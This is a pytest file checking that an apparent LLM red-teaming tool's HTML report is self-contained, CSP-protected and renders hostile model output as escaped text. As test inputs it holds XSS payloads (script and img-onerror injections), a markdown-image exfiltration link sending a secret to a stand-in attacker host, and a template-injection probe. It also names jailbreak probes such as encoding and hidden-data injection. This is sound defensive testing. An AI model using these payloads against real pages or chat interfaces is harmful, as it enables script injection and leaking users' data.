"""The HTML report: content, self-containment (nothing remote), and hostile outputs rendered as
inert text. The real-browser checks are in test_report_browser.py."""

from __future__ import annotations

import asyncio
import os
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest

from helpers.hostile_run import build_hostile_run
from redline.attempt import Attempt
from redline.engine import ScanConfig, scan
from redline.report.html import _attempt_view, render_report
from redline.store import RunNotFound, Store

ATTACKER = "http://127.0.0.1:9"


class Collector(HTMLParser):
    """Every start tag with its attributes, and the text inside <script> and <style>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.raw: dict[str, list[str]] = {"script": [], "style": []}
        self._in: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag in self.raw:
            self._in = tag
            self.raw[tag].append("")

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in:
            self.raw[self._in][-1] += data

    def named(self, name):
        return [attrs for tag, attrs in self.tags if tag == name]


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    db = tmp_path_factory.mktemp("html") / "r.db"
    store, run_id = build_hostile_run(db, attacker=ATTACKER)
    page = render_report(store, run_id, nonce="TESTNONCE123")
    parsed = Collector()
    parsed.feed(page)
    yield store, run_id, page, parsed, db
    store.close()


def test_summary_content(report):
    store, run_id, page, parsed, _ = report
    assert "scripted:hostile-demo" in page and run_id in page
    for probe in (
        "harmful.Requests",
        "injection.HiddenInData",
        "encoding.Base64",
        "bias.ForcedChoice",
        "demo.MultiTurn",
    ):
        assert probe in page
    assert "87.5%" in page and "64.0–96.5%" in page  # harmful.Requests rate and Wilson interval
    assert "make the model help with a clearly harmful request" in page
    assert "scan.generations" in page and "scan.sample" in page
    # bias metrics with their marks
    assert re.search(
        r'class="mark mc">C</span>\s*<div>\s*<div><span class="mname">stereotype_rate</span> <b>\+0.62</b>', page
    )
    assert re.search(
        r'class="mark mb">B</span>\s*<div>\s*<div><span class="mname">acceptance_gap</span> <b>-0.14</b>', page
    )
    assert "95% CI +0.48 to +0.75 · n=5 · 1 undetected" in page
    # charts: one bar per probe with a failure rate, one dot per measured metric
    svgs = page.count("<svg")
    assert svgs == 2
    rated = [
        "harmful.Requests",
        "injection.HiddenInData",
        "encoding.Base64",
        "encoding.Hex",
        "encoding.ROT13",
        "demo.MultiTurn",
    ]
    assert len(re.findall(r'<rect class="r\d" x="240"', page)) == len(rated)
    assert len(re.findall(r"<circle class=\"m[a-dn]\"", page)) == 3
    # drill-down: every attempt, the hits marked, filters offered
    details = parsed.named("details")
    assert len(details) == len(list(store.iter_attempts(run_id)))
    assert sum(1 for d in details if "is-hit" in (d.get("class") or "")) == 8  # 7 harmful + 1 multi-turn
    families = {o.get("value") for o in parsed.named("option")}
    assert {"harmful", "bias", "encoding", "refusal.Compliance", "fail", "pass", "error", "male"} <= families
    assert any(d.get("data-outcomes") == "error" for d in details)


def test_page_is_self_contained(report):
    _, _, page, parsed, _ = report
    assert not parsed.named("img") and not parsed.named("link") and not parsed.named("iframe")
    assert not parsed.named("object") and not parsed.named("embed") and not parsed.named("base")
    for tag, attrs in parsed.tags:
        assert "src" not in attrs, tag
        href = attrs.get("href")
        assert href is None or href.startswith("#"), href
        for name in attrs:
            assert not name.startswith("on"), (tag, name)
    assert not re.search(r"""(?:src|href|action|srcset|poster|data)\s*=\s*["']?\s*(?:https?:)?//""", page, re.I)
    assert not re.search(r"""url\(\s*["']?\s*(?:https?:)?//""", page, re.I)
    assert not re.search(r"@import", page)
    styles = parsed.raw["style"]
    assert len(styles) == 1 and "http" not in styles[0] and "url(" not in styles[0]
    assert "@font-face" not in styles[0]


def test_strict_csp_with_a_nonce_on_our_only_script(report):
    _, _, page, parsed, _ = report
    metas = parsed.named("meta")
    assert metas[0] == {"charset": "utf-8"}
    csp = metas[1]
    assert csp["http-equiv"] == "Content-Security-Policy"
    policy = csp["content"]
    assert "default-src 'none'" in policy and "img-src data:" in policy
    assert (
        "script-src 'nonce-TESTNONCE123'" in policy
        and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    )
    # the policy comes before anything that could load or run
    assert page.index("Content-Security-Policy") < page.index("<style") < page.index("<body")
    scripts = parsed.named("script")
    assert scripts == [{"nonce": "TESTNONCE123"}]
    (ours,) = parsed.raw["script"]
    assert "innerHTML" not in ours and "outerHTML" not in ours and "insertAdjacentHTML" not in ours
    assert "document.write" not in ours and "eval(" not in ours


def test_hostile_outputs_are_inert_text(report):
    _, _, page, parsed, _ = report
    assert "&lt;script&gt;document.title=&#39;PWNED&#39;&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&#34;document.title=&#39;PWNED-IMG&#39;&#34;&gt;" in page
    assert "&lt;/pre&gt;&lt;/details&gt;&lt;/section&gt;&lt;script&gt;" in page
    assert f"![exfil]({ATTACKER}/md-image.png?secret=42)" in page  # shown, not rendered
    assert "{{ 7*7 }} {% raw %}x{% endraw %}" in page  # data is never evaluated as a template
    assert "error: HTTP 500 from mock &lt;script&gt;" in page
    assert "PWNED" not in "".join(parsed.raw["script"])
    assert "<script>document" not in page and "<img" not in page and "<svg onload" not in page


def test_hostile_model_name_and_probe_data_are_escaped(tmp_path):
    store = Store(tmp_path / "m.db")
    model = 'test.repeat:"><img src=x onerror=alert(1)><script>alert(2)</script>'
    run_id = asyncio.run(scan(ScanConfig(model=model, probes="harmful.Requests", sample=2), store))
    page = render_report(store, run_id)
    parsed = Collector()
    parsed.feed(page)
    assert not parsed.named("img") and len(parsed.named("script")) == 1
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert all(not name.startswith("on") for _, attrs in parsed.tags for name in attrs)


def test_hits_only_and_unknown_run(report):
    store, run_id, _, _, _ = report
    page = render_report(store, run_id, hits_only=True)
    parsed = Collector()
    parsed.feed(page)
    details = parsed.named("details")
    assert len(details) == 9  # 8 attempts with hits + 1 errored
    assert all("fail" in d["data-outcomes"] or "error" in d["data-outcomes"] for d in details)
    with pytest.raises(RunNotFound):
        render_report(store, "nope")


def test_nonce_is_fresh_for_every_page(report):
    store, run_id, _, _, _ = report
    nonces = set()
    for _ in range(2):
        parsed = Collector()
        parsed.feed(render_report(store, run_id))
        policy = parsed.named("meta")[1]["content"]
        (nonce,) = re.findall(r"'nonce-([^']+)'", policy)
        assert parsed.named("script") == [{"nonce": nonce}]
        nonces.add(nonce)
    assert len(nonces) == 2 and all(len(n) >= 16 for n in nonces)


def test_cli_writes_html(report, tmp_path):
    _, run_id, _, _, db = report
    out = tmp_path / "report.html"
    env = {k: v for k, v in os.environ.items() if k != "OPENAI_API_KEY"}
    proc = subprocess.run(
        [sys.executable, "-m", "redline", "report", run_id, "--store", str(db), "--html", str(out)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "" and f"wrote {out}" in proc.stderr
    assert out.read_text(encoding="utf-8").startswith("<!doctype html>")
    assert [p.name for p in tmp_path.iterdir()] == ["report.html"]  # no temporary file left behind


def test_an_attempts_max_score_is_the_verdicts_not_an_ensemble_members() -> None:
    attempt = Attempt(prompt="request")
    attempt.outputs = ["answer"]
    attempt.detector_results = {
        "refusal.Compliance+llm": [0.2],
        "ensemble:llm": [0.9],
        "ensemble:refusal.Compliance": [0.0],
    }
    view = _attempt_view(attempt)
    assert view["max_score"] == 0.2
    # the members' scores are still shown, each with its own class
    shown = {s["detector"]: s["cls"] for s in view["generations"][0]["scores"]}
    assert shown == {"ensemble:llm": "hit", "ensemble:refusal.Compliance": "ok", "refusal.Compliance+llm": "ok"}
